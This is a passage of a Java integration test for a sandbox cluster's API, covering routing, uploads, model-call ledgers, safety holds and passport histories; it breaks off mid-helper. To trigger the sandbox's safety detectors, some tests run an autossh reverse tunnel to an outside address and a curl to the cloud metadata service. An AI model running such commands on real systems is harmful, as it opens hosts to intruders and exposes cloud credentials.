package dev.ale.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.ale.agent.testing.Reply;
import dev.ale.agent.testing.ScriptedModelServer;
import dev.ale.core.model.Usage;
import dev.ale.monitor.audit.AuditLog;
import dev.ale.monitor.audit.PassportHistory;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.io.SequenceInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import static dev.ale.cli.LoopbackCluster.ADMIN;
import static dev.ale.cli.LoopbackCluster.ENV;
import static dev.ale.cli.LoopbackCluster.OTHER;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The single node's API through the cluster's front, on real nodes under mutual TLS: ROCK's
 * X-API-Key, ROCK's list and batch status joined over the nodes (a dead node named, not fatal),
 * ROCK's multipart upload streamed to its node, holds decided through the front, a sandbox's
 * model call through its TLS node's gateway, recorded on the node and read through the front, and a
 * passport's history over both nodes (and over the one left when the other is dead).
 */
@Tag("root")
@Timeout(900)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ClusterFrontApiTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
    private static final String ROCK = "/apis/envs/sandbox/v1";
    /** The passport the history tests make sandboxes under, on both nodes. */
    private static final String FLEET_PASSPORT = "fleet-hist";

    @TempDir
    static Path dir;

    private static ScriptedModelServer model;
    private static LoopbackCluster cluster;
    private static String front;
    private static final List<String> made = new ArrayList<>();

    private record Answer(int status, JsonNode body, HttpResponse<String> raw) { }

    @BeforeAll
    static void start() throws Exception {
        // the nodes' data directories are below: sandbox users must be able to pass through
        Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwx--x--x"));
        model = ScriptedModelServer.start();
        cluster = LoopbackCluster.start(Files.createDirectories(dir.resolve("cluster")), 2, 6, TestTasks.greet(dir.resolve("tasks")),
                model.baseUrl().toString());
        front = cluster.frontUrl();
        await().atMost(Duration.ofSeconds(60)).until(() -> get("/healthz", ADMIN).body().path("ready_nodes").asInt() == 2);
    }

    @AfterAll
    static void stop() throws IOException {
        if (cluster != null) cluster.close();
        if (model != null) model.close();
        if (cluster == null) return;
        // nothing leaked: every node's sandboxes are gone with their namespaces and cgroups
        for (String id : made) assertThat(Path.of("/run/netns/ale-" + id.substring(id.indexOf('.') + 1))).doesNotExist();
        for (String top : List.of("/sys/fs/cgroup/" + cluster.cgroupTop())) assertThat(Path.of(top)).doesNotExist();
        for (LoopbackCluster.NodeProcess n : cluster.nodes()) {
            Path sandboxes = n.dataDir().resolve("sandboxes");
            if (!Files.isDirectory(sandboxes)) continue;
            try (Stream<Path> s = Files.list(sandboxes)) {
                assertThat(s.filter(p -> !pooled(p)).toList()).as(n.name()).isEmpty();
            }
        }
    }

    private static boolean pooled(Path sandboxDir) {
        try {
            return Files.readString(sandboxDir.resolve("state.json")).matches("(?s).*\"pooled\"\\s*:\\s*true.*");
        } catch (IOException e) {
            return false;
        }
    }

    @Test
    @Order(1)
    void rocksApiKeyStartsAndDrivesASandboxThroughTheFrontOnRocksPathsOnly() throws Exception {
        Answer started = rock("POST", "/start", "X-API-Key", ENV, "{}");
        assertThat(success(started).path("sandbox_id").asText()).matches("n[12]\\.sb-[0-9a-f]+");
        String id = started.body().path("result").path("sandbox_id").asText();
        made.add(id);
        Answer ran = rock("POST", "/execute", "X-API-Key", ENV, "{\"sandbox_id\": \"" + id + "\", \"command\": \"echo through the front\"}");
        assertThat(success(ran).path("stdout").asText()).isEqualTo("through the front\n");
        Answer status = rock("GET", "/get_status?sandbox_id=" + id, "X-API-Key", ENV, null);
        assertThat(success(status).path("is_alive").asBoolean()).isTrue();
        assertThat(status.body().path("result").path("ale_sandbox_id").asText()).as("ALE's id, with its node").isEqualTo(id);

        // start_async's ROCK id carries its node, so every later call on it is routed
        Answer async = rock("POST", "/start_async", "X-API-Key", ENV, "{}");
        String rockId = success(async).path("sandbox_id").asText();
        assertThat(rockId).matches("n[12]\\.rock-[0-9a-f]{16}");
        await().atMost(Duration.ofSeconds(120)).until(() -> rock("GET", "/get_status?sandbox_id=" + rockId, "X-API-Key", ENV, null)
                .body().path("result").path("is_alive").asBoolean());
        Answer asyncStatus = rock("GET", "/get_status?sandbox_id=" + rockId, "X-API-Key", ENV, null);
        String aleId = asyncStatus.body().path("result").path("ale_sandbox_id").asText();
        assertThat(aleId).startsWith(rockId.substring(0, rockId.indexOf('.') + 1) + "sb-");
        made.add(aleId);
        assertThat(get("/v1/sandboxes/" + aleId, ENV).status()).as("ALE's id of it, routed on ALE's path").isEqualTo(200);

        for (String wrong : List.of("not-a-token-at-all-xx", ENV + "x", "Bearer " + ENV)) {
            Answer refused = rock("POST", "/execute", "X-API-Key", wrong, "{\"sandbox_id\": \"" + id + "\", \"command\": \"true\"}");
            assertThat(refused.status()).as(wrong).isEqualTo(401);
            assertThat(refused.body().path("status").asText()).isEqualTo("Failed");
        }
        Answer aleRoute = send(HttpRequest.newBuilder(URI.create(front + "/v1/sandboxes/" + id)).header("X-API-Key", ENV).GET());
        assertThat(aleRoute.status()).as("ALE's own routes take no X-API-Key, as on a node").isEqualTo(401);
    }

    @Test
    @Order(2)
    void rocksListAndBatchStatusJoinEveryNodesSandboxesInRocksEnvelope() throws Exception {
        List<String> mine = new ArrayList<>();
        for (int i = 0; i < 3; i++) mine.add(success(rock("POST", "/start", "Authorization", "Bearer " + ENV, "{}")).path("sandbox_id").asText());
        String theirs = success(rock("POST", "/start", "Authorization", "Bearer " + OTHER, "{}")).path("sandbox_id").asText();
        made.addAll(mine);
        made.add(theirs);
        assertThat(mine.stream().map(ClusterFrontApiTest::node).distinct()).as("placed over both nodes").containsExactlyInAnyOrder("n1", "n2");

        Answer all = rock("GET", "/sandboxes?page_size=1000", "XRL-Authorization", "Bearer " + ENV, null);
        JsonNode result = success(all);
        List<String> listed = new ArrayList<>();
        result.path("items").forEach(s -> listed.add(s.path("sandbox_id").asText()));
        assertThat(listed).as("the token's sandboxes on every node, never another token's").containsAll(mine).doesNotContain(theirs);
        assertThat(result.path("total").asInt()).isEqualTo(listed.size());
        assertThat(result.path("has_more").asBoolean()).isFalse();
        assertThat(result.has("unreachable_nodes")).as("every node was asked").isFalse();
        result.path("items").forEach(s -> assertThat(s.path("node").asText()).isEqualTo(node(s.path("sandbox_id").asText())));

        // ROCK's pages are cut over the joined list
        Answer second = rock("GET", "/sandboxes?page=2&page_size=2", "X-API-Key", ENV, null);
        assertThat(success(second).path("items")).hasSize(Math.min(2, listed.size() - 2));
        assertThat(second.body().path("result").path("total").asInt()).isEqualTo(listed.size());
        assertThat(second.body().path("result").path("has_more").asBoolean()).isEqualTo(listed.size() > 4);
        assertThat(second.body().path("result").path("items").get(0).path("sandbox_id").asText()).isEqualTo(listed.get(2));
        // ROCK's filters go to every node
        Answer byUser = rock("GET", "/sandboxes?user_id=other", "X-API-Key", ADMIN, null);
        assertThat(success(byUser).path("items")).extracting(s -> s.path("sandbox_id").asText()).containsExactly(theirs);
        Answer none = rock("GET", "/sandboxes?state=stopped", "X-API-Key", ENV, null);
        assertThat(success(none).path("total").asInt()).isZero();
        Answer bad = rock("GET", "/sandboxes?page=0", "X-API-Key", ENV, null);
        assertThat(bad.body().path("status").asText()).isEqualTo("Failed");
        assertThat(bad.body().path("error").asText()).contains("page: must be a whole number from 1, not '0'");

        // the batch: each id asked of its own node, in the order asked; unknown, foreign and nodeless ids are left out
        String body = JSON.createObjectNode().set("sandbox_ids", JSON.valueToTree(List.of(mine.get(2), "n1.sb-00000000000000ff", theirs,
                mine.get(0), "sb-0123456789abcdef", "n9.sb-0123456789abcdef", mine.get(1), mine.get(0)))).toString();
        Answer batch = rock("POST", "/sandboxes/batch", "X-API-Key", ENV, body);
        List<String> statuses = new ArrayList<>();
        success(batch).path("statuses").forEach(s -> statuses.add(s.path("sandbox_id").asText()));
        assertThat(statuses).containsExactly(mine.get(2), mine.get(0), mine.get(1));
        batch.body().path("result").path("statuses").forEach(s -> assertThat(s.path("is_alive").asBoolean()).isTrue());
        Answer tooMany = rock("POST", "/sandboxes/batch", "X-API-Key", ENV,
                JSON.createObjectNode().set("sandbox_ids", JSON.valueToTree(Collections.nCopies(1001, mine.get(0)))).toString());
        assertThat(tooMany.body().path("error").asText()).contains("at most 1000 ids");
        for (String id : mine) rock("POST", "/stop", "X-API-Key", ENV, "{\"sandbox_id\": \"" + id + "\"}");
        rock("POST", "/stop", "X-API-Key", OTHER, "{\"sandbox_id\": \"" + theirs + "\"}");
    }

    @Test
    @Order(3)
    void rocksMultipartUploadIsStreamedToTheSandboxesNodeAndItsLimitHoldsThroughTheFront() throws Exception {
        String id = success(rock("POST", "/start", "X-API-Key", ENV, "{}")).path("sandbox_id").asText();
        made.add(id);
        byte[] file = new byte[12 << 20];
        new Random(7).nextBytes(file);
        String boundary = "ale-test-" + HexFormat.of().toHexDigits(System.nanoTime());
        Answer up = upload(boundary, List.of("target_path", "/workspace/data.bin", "sandbox_id", id), file, List.of());
        assertThat(success(up).path("success").asBoolean()).as(up.raw().body()).isTrue();
        assertThat(up.body().path("result").path("message").asText()).contains("uploaded " + file.length + " bytes to /workspace/data.bin");
        Answer sum = rock("POST", "/execute", "X-API-Key", ENV, "{\"sandbox_id\": \"" + id + "\", \"command\": \"sha256sum /workspace/data.bin\"}");
        assertThat(success(sum).path("stdout").asText()).startsWith(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(file)));

        // sandbox_id after the file cannot route without reading the file first: refused, saying how to send it
        Answer late = upload(boundary, List.of("target_path", "/workspace/late.bin"), new byte[10], List.of("sandbox_id", id));
        assertThat(late.body().path("status").asText()).isEqualTo("Failed");
        assertThat(late.body().path("error").asText()).contains("must come before the file part");
        // over the node's limit: refused while streaming (the caller's too-big file, not a node failure)
        Answer big = upload(boundary, List.of("sandbox_id", id, "target_path", "/workspace/big.bin"), new byte[(16 << 20) + (1 << 16)], List.of());
        assertThat(big.body().path("status").asText()).isEqualTo("Failed");
        assertThat(big.body().path("error").asText()).contains("over the limit");
        Answer streamedBig = send(HttpRequest.newBuilder(URI.create(front + ROCK + "/upload")).header("X-API-Key", ENV)
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new SequenceInputStream(new ByteArrayInputStream(form(boundary,
                        List.of("sandbox_id", id, "target_path", "/workspace/big2.bin"), new byte[17 << 20], List.of())), InputStream.nullInputStream()))));
        assertThat(streamedBig.body().path("status").asText()).as("no Content-Length: counted as it streams").isEqualTo("Failed");
        assertThat(streamedBig.body().path("error").asText()).contains("over the limit");
        assertThat(get("/healthz", ADMIN).body().path("ready_nodes").asInt()).as("the node is not blamed for the caller's file").isEqualTo(2);
        Answer absent = rock("POST", "/execute", "X-API-Key", ENV, "{\"sandbox_id\": \"" + id + "\", \"command\": \"ls /workspace\"}");
        assertThat(success(absent).path("stdout").asText()).contains("data.bin").doesNotContain("big").doesNotContain("late");
        rock("POST", "/stop", "X-API-Key", ENV, "{\"sandbox_id\": \"" + id + "\"}");
    }

    @Test
    @Order(4)
    void aSandboxOnATlsNodeCallsTheModelThroughItsGatewayAndTheCallIsRecordedAndReadThroughTheFront() throws Exception {
        model.reply(Reply.text("hello from the model").withUsage(new Usage(12, 4)));
        Answer created = post("/v1/sandboxes", ENV, "{}");
        assertThat(created.status()).as(created.raw().body()).isEqualTo(201);
        String id = created.body().path("id").asText();
        made.add(id);
        String node = node(id);
        String token = created.body().path("model_token").asText();
        assertThat(token).as("the front's model token names the node").startsWith(node + ".ale-sbx-");

        String call = "curl -sS --max-time 60 -w '\\nHTTP %{http_code}\\n' -H \"Authorization: Bearer $OPENAI_API_KEY\" -H 'Content-Type: application/json'"
                + " -d '{\"model\": \"m\", \"messages\": [{\"role\": \"user\", \"content\": \"hi\"}]}' \"$OPENAI_BASE_URL/chat/completions\"";
        Answer ran = post("/v1/sandboxes/" + id + "/exec", ENV, JSON.createObjectNode().put("command", call).toString());
        assertThat(ran.status()).as(ran.raw().body()).isEqualTo(200);
        assertThat(ran.body().path("stdout").asText()).contains("hello from the model").contains("HTTP 200");
        assertThat(model.lastRequest().header("authorization")).as("the sandbox's token never goes upstream").isEmpty();

        Answer ledger = get("/v1/sandboxes/" + id + "/model-calls", ENV);
        assertThat(ledger.status()).as(ledger.raw().body()).isEqualTo(200);
        assertThat(ledger.body().path("tokens_spent").asLong()).isEqualTo(16);
        assertThat(ledger.body().path("calls")).hasSize(1);
        assertThat(ledger.body().path("calls").get(0).path("usage").path("prompt_tokens").asLong()).isEqualTo(12);
        assertThat(ledger.body().path("calls").get(0).path("status").asInt()).isEqualTo(200);
        assertThat(get("/v1/sandboxes/" + id + "/model-calls", OTHER).status()).as("another token's sandbox").isEqualTo(404);

        // the same sandbox's token from outside, through the front's own model proxy: the same ledger
        model.reply(Reply.text("again").withUsage(new Usage(5, 2)));
        Answer outside = send(HttpRequest.newBuilder(URI.create(front + "/v1/chat/completions")).header("Authorization", "Bearer " + token)
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"model\": \"m\", \"messages\": [{\"role\": \"user\", \"content\": \"hi\"}]}")));
        assertThat(outside.status()).as(outside.raw().body()).isEqualTo(200);
        assertThat(get("/v1/sandboxes/" + id + "/model-calls", ENV).body().path("tokens_spent").asLong()).isEqualTo(23);

        // a GEM episode on a TLS node: its model call is attributed to its step in the node's episodes.jsonl
        model.reply(Reply.text("write hello").withUsage(new Usage(20, 2)));
        Answer env = post("/v1/envs", ENV, "{\"task\": \"greet\", \"seed\": 3}");
        assertThat(env.status()).as(env.raw().body()).isEqualTo(201);
        String envId = env.body().path("env_id").asText();
        made.add(envId);
        Answer reset = post("/v1/envs/" + envId + "/reset", ENV, "{}");
        assertThat(reset.body().path("info").path("model_token").asText()).startsWith(node(envId) + ".ale-sbx-");
        String shell = JSON.createObjectNode().put("command", call).toString();
        Answer asked = post("/v1/envs/" + envId + "/step", ENV, "{\"action\": {\"name\": \"shell\", \"arguments\": " + shell + "}}");
        assertThat(asked.body().path("observation").asText()).contains("write hello");
        post("/v1/envs/" + envId + "/step", ENV, "{\"action\": {\"name\": \"write_file\", \"arguments\": {\"path\": \"out.txt\", \"content\": \"hello\\n\"}}}");
        Answer done = post("/v1/envs/" + envId + "/step", ENV, "{\"action\": {\"name\": \"finish\", \"arguments\": {\"summary\": \"done\"}}}");
        assertThat(done.body().path("reward").asDouble()).as(done.raw().body()).isEqualTo(1.0);
        Path runs = cluster.nodes().stream().filter(n -> n.name().equals(node(envId))).findFirst().orElseThrow().dataDir().resolve("runs");
        List<JsonNode> lines = new ArrayList<>();
        try (Stream<Path> files = Files.walk(runs)) {
            for (Path f : files.filter(f -> f.getFileName().toString().equals("episodes.jsonl")).toList()) {
                for (String l : Files.readAllLines(f)) if (!l.isBlank()) lines.add(JSON.readTree(l));
            }
        }
        String localEnv = envId.substring(envId.indexOf('.') + 1);
        List<JsonNode> mine = lines.stream().filter(l -> l.path("env").asText().equals(localEnv)).toList();
        assertThat(mine).as("the node's line of the episode").hasSize(1);
        assertThat(mine.getFirst().path("model_calls")).hasSize(1);
        assertThat(mine.getFirst().path("model_calls").get(0).path("step").asInt()).as("made during step 1").isEqualTo(1);
        assertThat(mine.getFirst().path("model_calls").get(0).path("usage").path("prompt_tokens").asLong()).isEqualTo(20);
        post("/v1/envs/" + envId + "/close", ENV, "{}");

        String metrics = get("/metrics", ADMIN).raw().body();
        assertThat(metrics).containsPattern("ale_proxy_tokens_total\\{[^}]*node=\"" + node + "\"[^}]*\\} [1-9]");
        assertThat(send(HttpRequest.newBuilder(URI.create(front + "/v1/sandboxes/" + id)).header("Authorization", "Bearer " + ENV).DELETE())
                .status()).isIn(200, 204);
    }

    @Test
    @Order(5)
    void aHoldIsListedAndDecidedThroughTheFrontAndASecondAnswerSaysWhoDecided() throws Exception {
        String passport = "{\"passport\": \"id: held\\ndetectors:\\n  tunnel: {action: hold}\\nhold: {deadline: 2m}\\n\"}";
        Answer created = post("/v1/sandboxes", ADMIN, passport);
        assertThat(created.status()).as(created.raw().body()).isEqualTo(201);
        String id = created.body().path("id").asText();
        made.add(id);
        CompletableFuture<Answer> held = CompletableFuture.supplyAsync(() -> {
            try {
                return post("/v1/sandboxes/" + id + "/exec", ADMIN,
                        "{\"command\": \"autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9; echo ran\", \"timeout_seconds\": 120}");
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        });
        JsonNode[] hold = new JsonNode[1];
        await().atMost(Duration.ofSeconds(60)).until(() -> {
            for (JsonNode h : get("/holds", ADMIN).body()) if (h.path("sandboxId").asText().equals(id)) hold[0] = h;
            return hold[0] != null;
        });
        String holdId = hold[0].path("id").asText();
        assertThat(holdId).as("the hold's id carries its node").matches(node(id) + "\\.hold-[0-9a-f]{12}");
        assertThat(hold[0].path("node").asText()).isEqualTo(node(id));
        assertThat(hold[0].path("state").asText()).isEqualTo("pending");
        assertThat(get("/holds", OTHER).body()).as("another token's sandbox's holds are not shown").isEmpty();
        assertThat(post("/holds/" + holdId + "/approve", OTHER, "{}").status()).isEqualTo(404);

        // the CLI reads the front as it reads a server
        Path tokenFile = dir.resolve("admin-token");
        Files.writeString(tokenFile, ADMIN);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Main.run(new String[] {"hold", "ls", "--server", front, "--token-file", tokenFile.toString()}, new PrintStream(out, true, StandardCharsets.UTF_8),
                new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
        assertThat(out.toString(StandardCharsets.UTF_8)).contains(holdId);

        Answer approved = post("/holds/" + holdId + "/approve", ADMIN, "{}");
        assertThat(approved.status()).as(approved.raw().body()).isEqualTo(200);
        assertThat(approved.body().path("state").asText()).isEqualTo("approved");
        assertThat(approved.body().path("id").asText()).isEqualTo(holdId);
        assertThat(approved.body().path("sandboxId").asText()).isEqualTo(id);
        Answer again = post("/holds/" + holdId + "/deny", ADMIN, "{}");
        assertThat(again.status()).isEqualTo(409);
        assertThat(again.body().path("error").path("message").asText()).contains("already approved by ops");
        assertThat(held.get().body().path("stdout").asText()).contains("ran");
        assertThat(post("/holds/hold-0123456789ab/approve", ADMIN, "{}").status()).as("a hold id without its node").isEqualTo(404);

        // the sandbox's events through the front: its safety events as they were, then the end when it is removed
        CompletableFuture<HttpResponse<String>> events = HTTP.sendAsync(HttpRequest.newBuilder(URI.create(front + "/v1/sandboxes/" + id + "/events"))
                .header("Authorization", "Bearer " + ADMIN).timeout(Duration.ofSeconds(180)).GET().build(), HttpResponse.BodyHandlers.ofString());
        Thread.sleep(1000); // the stream has started; what it replays does not depend on when
        send(HttpRequest.newBuilder(URI.create(front + "/v1/sandboxes/" + id)).header("Authorization", "Bearer " + ADMIN).DELETE());
        HttpResponse<String> stream = events.get();
        assertThat(stream.headers().firstValue("Content-Type")).hasValueSatisfying(t -> assertThat(t).startsWith("text/event-stream"));
        assertThat(stream.body()).contains("event: safety_event").contains("autossh").contains("event: end").contains("sandbox removed");
    }

    @Test
    @Order(6)
    void aPassportsHistoryThroughTheFrontHasEveryNodesRunsEachNamingItsNodeWithTheTotalsSummed() throws Exception {
        // sandboxes under one passport on both nodes; each tries an address it may not reach, then is killed for the metadata service
        String passport = "{\"passport\": \"id: " + FLEET_PASSPORT + "\\n\"}";
        Map<String, List<String>> onNode = new TreeMap<>();
        for (int i = 0; i < 6 && onNode.size() < 2; i++) {
            Answer created = post("/v1/sandboxes", ADMIN, passport);
            assertThat(created.status()).as(created.raw().body()).isEqualTo(201);
            String id = created.body().path("id").asText();
            made.add(id);
            onNode.computeIfAbsent(node(id), k -> new ArrayList<>()).add(id);
        }
        assertThat(onNode).containsOnlyKeys("n1", "n2");
        String acts = "curl -s --max-time 3 http://203.0.113.9/ ; curl -s --max-time 3 http://169.254.169.254/latest/meta-data/ ; echo ran";
        for (List<String> ids : onNode.values()) {
            for (String id : ids) post("/v1/sandboxes/" + id + "/exec", ADMIN, JSON.createObjectNode().put("command", acts).toString());
        }
        await().atMost(Duration.ofSeconds(120)).until(() -> cluster.nodes().stream()
                .allMatch(n -> ownHistory(n).path("kills").size() >= onNode.get(n.name()).size()));
        for (List<String> ids : onNode.values()) {
            for (String id : ids) send(HttpRequest.newBuilder(URI.create(front + "/v1/sandboxes/" + id)).header("Authorization", "Bearer " + ADMIN).DELETE());
        }

        // the front's answer is each node's own summary of its chain, summed (asked until the nodes' last records are in)
        Answer[] last = new Answer[1];
        await().atMost(Duration.ofSeconds(60)).untilAsserted(() -> {
            last[0] = get("/passports/" + FLEET_PASSPORT + "/history", ADMIN);
            assertThat(last[0].status()).as(last[0].raw().body()).isEqualTo(200);
            assertSummed(last[0].body(), cluster.nodes());
        });
        JsonNode h = last[0].body();
        assertThat(h.path("unreachable_nodes")).isEmpty();
        assertThat(last[0].raw().headers().firstValue("X-Ale-Unreachable-Nodes")).isEmpty();
        assertThat(h.path("versions")).hasSize(1);
        assertThat(h.path("versions").get(0).path("nodes")).extracting(JsonNode::asText).containsExactlyInAnyOrder("n1", "n2");
        List<String> sandboxes = new ArrayList<>();
        h.path("sandboxes").forEach(s -> sandboxes.add(s.asText()));
        assertThat(sandboxes).as("each sandbox by the cluster's id, which names its node")
                .containsExactlyInAnyOrderElementsOf(onNode.values().stream().flatMap(List::stream).toList());
        assertThat(h.path("by_node").path("n1").path("sandboxes")).extracting(JsonNode::asText).containsExactlyElementsOf(onNode.get("n1"));
        assertThat(h.path("by_node").path("n2").path("sandboxes")).extracting(JsonNode::asText).containsExactlyElementsOf(onNode.get("n2"));
        assertThat(h.path("events_by_category").path("metadata").asInt()).as(h.toString()).isGreaterThanOrEqualTo(made(onNode));
        List<Instant> times = new ArrayList<>();
        for (JsonNode k : h.path("kills")) {
            assertThat(k.path("node").asText()).isIn("n1", "n2");
            assertThat(k.path("sandbox").asText()).as("its sandbox by the cluster's id").startsWith(k.path("node").asText() + ".sb-");
            times.add(Instant.parse(k.path("time").asText()));
        }
        assertThat(h.path("kills")).extracting(k -> k.path("node").asText()).contains("n1", "n2");
        assertThat(times).as("the kills of both nodes in time order").isSorted();

        // what a node refuses the front answers as the node does
        Answer badSince = get("/passports/" + FLEET_PASSPORT + "/history?since=yesterday", ADMIN);
        assertThat(badSince.status()).isEqualTo(400);
        assertThat(badSince.body().path("error").path("code").asText()).isEqualTo("invalid_field");
        assertThat(badSince.body().path("error").path("message").asText()).contains("since: 'yesterday' is not an ISO-8601 instant");
        Answer backwards = get("/passports/" + FLEET_PASSPORT + "/history?since=2026-03-02T00:00:00Z&until=2026-03-01T00:00:00Z", ADMIN);
        assertThat(backwards.status()).isEqualTo(400);
        assertThat(backwards.body().path("error").path("message").asText()).startsWith("since: must be before until");
        Answer unknown = get("/passports/nobody-at-all/history", ADMIN);
        assertThat(unknown.status()).isEqualTo(404);
        assertThat(unknown.body().path("error").path("message").asText()).contains("'nobody-at-all'");
        assertThat(get("/passports/" + FLEET_PASSPORT + "/history", ENV).status()).as("a history is for admin tokens, as on a node").isEqualTo(403);
        Answer future = get("/passports/" + FLEET_PASSPORT + "/history?since=2999-01-01T00:00:00Z", ADMIN);
        assertThat(future.status()).isEqualTo(200);
        assertThat(future.body().path("sandboxes")).isEmpty();
        assertThat(future.body().path("since").asText()).isEqualTo("2999-01-01T00:00:00Z");

        // the CLI prints the fleet's history from the front
        CliRun text = passportHistory();
        assertThat(text.exit()).as(text.err()).isZero();
        assertThat(text.out()).contains("Passport " + FLEET_PASSPORT).contains("on n1, n2").contains("  n1: ").contains("  n2: ")
                .containsPattern("Kills:\n  n[12] #").contains("metadata  " + h.path("events_by_category").path("metadata").asInt());
        CliRun json = passportHistory("--json");
        assertThat(JSON.readTree(json.out()).path("events_by_category")).isEqualTo(h.path("events_by_category"));
    }

    @Test
    @Order(7)
    void aDeadNodeIsNamedInRocksListAndBatchAndTheLiveNodesSandboxesAreStillThere() throws Exception {
        // one sandbox on each node (placement goes by free slots, which earlier tests' leftovers may tilt)
        Map<String, String> onNode = new TreeMap<>();
        for (int i = 0; i < 6 && onNode.size() < 2; i++) {
            String id = success(rock("POST", "/start", "X-API-Key", ENV, "{}")).path("sandbox_id").asText();
            made.add(id);
            onNode.putIfAbsent(node(id), id);
        }
        assertThat(onNode).containsOnlyKeys("n1", "n2");
        String alive = onNode.get("n1");
        String lost = onNode.get("n2");
        cluster.killNode(1); // n2

        Answer listed = rock("GET", "/sandboxes", "X-API-Key", ENV, null);
        JsonNode result = success(listed);
        List<String> ids = new ArrayList<>();
        result.path("items").forEach(s -> ids.add(s.path("sandbox_id").asText()));
        assertThat(ids).contains(alive).doesNotContain(lost);
        assertThat(result.path("unreachable_nodes")).extracting(JsonNode::asText).containsExactly("n2");
        assertThat(listed.raw().headers().firstValue("X-Ale-Unreachable-Nodes")).contains("n2");

        Answer batch = rock("POST", "/sandboxes/batch", "X-API-Key", ENV,
                JSON.createObjectNode().set("sandbox_ids", JSON.valueToTree(List.of(lost, alive))).toString());
        assertThat(success(batch).path("statuses")).extracting(s -> s.path("sandbox_id").asText()).containsExactly(alive);
        assertThat(batch.body().path("result").path("unreachable_nodes")).extracting(JsonNode::asText).containsExactly("n2");

        Answer gone = rock("POST", "/execute", "X-API-Key", ENV, "{\"sandbox_id\": \"" + lost + "\", \"command\": \"true\"}");
        assertThat(gone.body().path("status").asText()).isEqualTo("Failed");
        assertThat(gone.body().path("message").asText()).isEqualTo("node unavailable");
        rock("POST", "/stop", "X-API-Key", ENV, "{\"sandbox_id\": \"" + alive + "\"}");
    }

    @Test
    @Order(8)
    void aPassportsHistoryWithANodeDownIsTheLiveNodesAndNamesTheOneNotAsked() throws Exception {
        assertThat(cluster.nodes().get(1).process().isAlive()).as("n2 was killed by the test before").isFalse();
        Answer h = get("/passports/" + FLEET_PASSPORT + "/history", ADMIN);
        assertThat(h.status()).as(h.raw().body()).isEqualTo(200);
        assertThat(h.body().path("unreachable_nodes")).extracting(JsonNode::asText).containsExactly("n2");
        assertThat(h.raw().headers().firstValue("X-Ale-Unreachable-Nodes")).contains("n2");
        assertSummed(h.body(), List.of(cluster.nodes().get(0)));
        assertThat(h.body().path("by_node").has("n2")).isFalse();
        h.body().path("sandboxes").forEach(s -> assertThat(s.asText()).startsWith("n1."));

        CliRun text = passportHistory();
        assertThat(text.exit()).as("a node not asked: exit 3, as ale audit query").isEqualTo(3);
        assertThat(text.out()).contains("  n1: ").doesNotContain("  n2: ").contains("node n2 could not be asked");
    }

    private static int made(Map<String, List<String>> onNode) {
        return onNode.values().stream().mapToInt(List::size).sum();
    }

    private record CliRun(int exit, String out, String err) { }

    private static CliRun passportHistory(String... more) throws IOException {
        Path tokenFile = dir.resolve("admin-token");
        Files.writeString(tokenFile, ADMIN);
        List<String> args = new ArrayList<>(List.of("passport", "history", FLEET_PASSPORT, "--server", front, "--token-file", tokenFile.toString()));
        args.addAll(List.of(more));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int exit = Main.run(args.toArray(String[]::new), new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8));
        return new CliRun(exit, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
    }

    /** The passport's history as the node's own audit log gives it, read from its file. */
    private static JsonNode ownHistory(LoopbackCluster.NodeProcess n) {
        try (AuditLog log = AuditLog.openExisting(n.dataDir().resolve("audit.db"))) {
            if (!PassportHistory.named(log, FLEET_PASSPORT)) return JSON.createObjectNode();
            return PassportHistory.read(log, FLEET_PASSPORT, Optional.empty(), Optional.empty()).toJson();
        }
    }

    /** The front's totals are the sums of each node's own, and its runs are the nodes' runs, each under its node. */
    private static void assertSummed(JsonNode front, List<LoopbackCluster.NodeProcess> nodes) {
        Map<String, Map<String, Long>> sums = new TreeMap<>();
        long records = 0;
        int kills = 0;
        for (LoopbackCluster.NodeProcess n : nodes) {
            JsonNode own = ownHistory(n);
            for (String c : List.of("events_by_category", "hosts_reached", "hosts_refused", "protected_writes")) {
                own.path(c).properties().forEach(e -> sums.computeIfAbsent(c, k -> new TreeMap<>()).merge(e.getKey(), e.getValue().asLong(), Long::sum));
            }
            for (JsonNode v : own.path("versions")) records += v.path("records").asLong();
            kills += own.path("kills").size();
            List<String> episodes = new ArrayList<>();
            own.path("episodes").forEach(e -> episodes.add(e.asText()));
            assertThat(front.path("by_node").path(n.name()).path("episodes")).extracting(JsonNode::asText).as(n.name()).containsExactlyElementsOf(episodes);
            assertThat(front.path("by_node").path(n.name()).path("sandboxes")).as(n.name()).hasSize(own.path("sandboxes").size());
